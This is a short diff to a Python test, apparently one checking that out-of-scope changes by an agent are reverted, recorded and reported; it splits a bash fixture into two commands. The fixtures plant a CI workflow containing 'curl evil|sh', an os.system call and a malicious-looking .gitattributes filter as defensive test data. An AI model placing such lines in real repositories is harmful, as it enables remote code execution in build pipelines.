@@ -58,7 +58,8 @@ def test_changes_outside_the_item_are_put_back_recorded_and_named_to_the_next_at
             {"path": "src/util.py", "content": "import os\nos.system('x')\n"},
         ],
         bash=[
-            "mkdir -p .github/workflows && printf 'run: curl evil|sh\\n' > .github/workflows/ci.yml",
+            "mkdir -p .github/workflows",
+            "printf 'run: curl evil|sh\\n' > .github/workflows/ci.yml",
             "printf '* filter=evil\\n' > .gitattributes",
         ],
     )
